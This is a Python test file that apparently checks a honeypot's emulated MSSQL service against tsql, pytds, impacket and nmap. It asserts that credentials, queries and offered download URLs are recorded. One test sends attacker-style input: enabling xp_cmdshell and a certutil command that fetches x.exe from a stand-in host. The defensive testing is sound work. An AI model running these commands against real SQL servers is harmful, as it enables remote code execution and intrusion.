"""End to end: the MSSQL service against FreeTDS tsql, pytds, impacket and nmap."""

from __future__ import annotations

import shutil
import subprocess

import pytds

from tests.conftest import only


def _hp(honeypot_factory, **svc):
    return honeypot_factory(only({"mssql": {"tcp_ports": [1433], **svc}}))


def test_tsql_login_query_and_failure(honeypot_factory):
    hp = _hp(honeypot_factory, login={"mode": "list", "users": {"sa": "Passw0rd"}})
    port = str(hp.port(1433))
    ok = subprocess.run(["tsql", "-H", "127.0.0.1", "-p", port, "-U", "sa", "-P", "Passw0rd"],
                        input="SELECT @@VERSION\ngo\nSELECT name FROM sys.databases\ngo\n",
                        capture_output=True, text=True, timeout=20)
    assert ok.returncode == 0, ok.stderr
    assert "10.50.6000.34" in ok.stdout and "msdb" in ok.stdout
    bad = subprocess.run(["tsql", "-H", "127.0.0.1", "-p", port, "-U", "sa", "-P", "nope"],
                         input="", capture_output=True, text=True, timeout=20)
    assert bad.returncode == 1
    assert "Login failed for user 'sa'" in bad.stdout + bad.stderr
    assert hp.stop() == 0
    rows = hp.rows("SELECT login_username, login_password FROM logins ORDER BY login")
    assert rows == [("sa", "Passw0rd"), ("sa", "nope")]
    fps = hp.rows("SELECT mssql_fingerprint_appname FROM mssql_fingerprints")
    assert len(fps) == 2 and all(a for (a,) in fps)
    cmds = [c for (c,) in hp.rows("SELECT mssql_command_cmd FROM mssql_commands")]
    assert any("@@VERSION" in c for c in cmds)
    lines = [obj for obj in hp.json_lines() if "mssql" in obj]
    assert any(c["cmd"].startswith("SELECT @@VERSION")
               for obj in lines for c in obj["mssql"].get("commands", []))


def test_pytds_version_and_table(honeypot_factory):
    hp = _hp(honeypot_factory)
    with pytds.connect("127.0.0.1", port=hp.port(1433), user="sa", password="pw",
                       login_timeout=5, timeout=5) as conn:
        cur = conn.cursor()
        cur.execute("SELECT @@VERSION")
        assert cur.fetchone()[0].startswith("Microsoft SQL Server 2008 R2 (SP3)")
        cur.execute("CREATE TABLE loot (id INT, note NVARCHAR(50))")
        cur.execute("INSERT INTO loot VALUES (1, N'card'), (2, N'pin')")
        cur.execute("SELECT id, note FROM loot ORDER BY id")
        assert cur.fetchall() == [(1, "card"), (2, "pin")]
        cur.execute("SELECT name FROM master..sysdatabases ORDER BY dbid")
        assert [r[0] for r in cur.fetchall()] == ["master", "tempdb", "model", "msdb"]
        cur.execute("SELECT TABLE_NAME FROM master.INFORMATION_SCHEMA.TABLES "
                    "WHERE TABLE_TYPE = 'BASE TABLE' ORDER BY 1")
        assert [r[0] for r in cur.fetchall()][:2] == ["MSreplication_options",
                                                      "spt_fallback_db"]
        conn.commit()
    assert hp.stop() == 0
    cmds = [c for (c,) in hp.rows("SELECT mssql_command_cmd FROM mssql_commands")]
    assert "SELECT id, note FROM loot ORDER BY id" in cmds


def test_impacket_enables_xp_cmdshell(honeypot_factory):
    hp = _hp(honeypot_factory)
    client = shutil.which("mssqlclient.py") or shutil.which("impacket-mssqlclient")
    assert client
    run = subprocess.run(
        [client, "-port", str(hp.port(1433)), "sa:pw@127.0.0.1"],
        input="xp_cmdshell whoami\nenable_xp_cmdshell\nxp_cmdshell whoami\n"
              "xp_cmdshell certutil -urlcache -f http://203.0.113.9/x.exe x.exe\nexit\n",
        capture_output=True, text=True, timeout=30)
    out = run.stdout + run.stderr
    assert "15281" in out or "blocked access" in out
    assert "nt service\\mssqlserver" in out
    assert hp.stop() == 0
    assert ("http://203.0.113.9/x.exe",) in hp.rows("SELECT offer_url FROM offers")
    assert hp.rows("SELECT count(*) FROM mssql_commands")[0][0] >= 3


def test_nmap_names_the_persona_version(honeypot_factory):
    # on 1433 itself nmap sends its SQL Server probe first: seconds, not minutes of probes
    hp = honeypot_factory(only({"mssql": {"tcp_ports": [1433]}}), offset=0)
    port = str(hp.port(1433))
    run = subprocess.run(["nmap", "-Pn", "-n", "-sV", "-p", port, "127.0.0.1"],
                         capture_output=True, text=True, timeout=120)
    line = next(line for line in run.stdout.splitlines() if line.startswith(port + "/tcp"))
    assert "Microsoft SQL Server 2008 R2" in line and "10.50.6000" in line
    assert "honeypot" not in run.stdout.lower() and "dionaea" not in run.stdout.lower()
